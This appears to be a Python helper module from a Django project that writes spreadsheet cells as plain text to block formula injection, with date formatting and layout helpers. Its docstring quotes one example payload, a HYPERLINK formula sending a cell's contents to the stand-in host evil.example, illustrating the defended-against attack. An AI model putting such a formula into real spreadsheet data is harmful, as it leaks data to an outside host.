"""Spreadsheet cells that stay data: every XLSX the project writes goes through `append`.

openpyxl turns any string that starts with "=" into a formula, so an applicant named
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` became a live link in the register book.
Here every string is written as a string cell (`data_type = "s"`): Excel and LibreOffice show the
text as typed and evaluate nothing. Numbers stay numbers. (The CSV export holds only the progress
table: catalogue names of agencies and fields, and numbers; no applicant data.)

Dates are real dates (Vietnam time, shown dd/mm/yyyy [hh:mm]) so that a spreadsheet sorts and
filters them; `layout()` gives a sheet its column widths and a frozen header.
"""

from datetime import date, datetime

from django.utils import timezone
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

DATETIME_FORMAT = "dd/mm/yyyy hh:mm"
DATE_FORMAT = "dd/mm/yyyy"
BOLD = Font(bold=True)


def cell(sheet, value, *, bold=False):
    """A write-only cell for `value`; strings are always plain text, never formulas; datetimes
    are local (naive: spreadsheets have no time zones) with a dd/mm/yyyy format."""
    if isinstance(value, datetime):
        value = timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    written = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        written.data_type = "s"
    elif isinstance(value, datetime):
        written.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        written.number_format = DATE_FORMAT
    if bold:
        written.font = BOLD
    return written


def append(sheet, values, *, bold=False):
    """`sheet.append(values)` with every string written as text (`bold`: a header line)."""
    sheet.append([cell(sheet, value, bold=bold) for value in values])


def layout(sheet, widths, *, header_row):
    """Column widths (in characters) and the rows up to `header_row` frozen, so the header stays
    on screen while scrolling. A write-only sheet takes both before its first row."""
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = f"A{header_row + 1}"
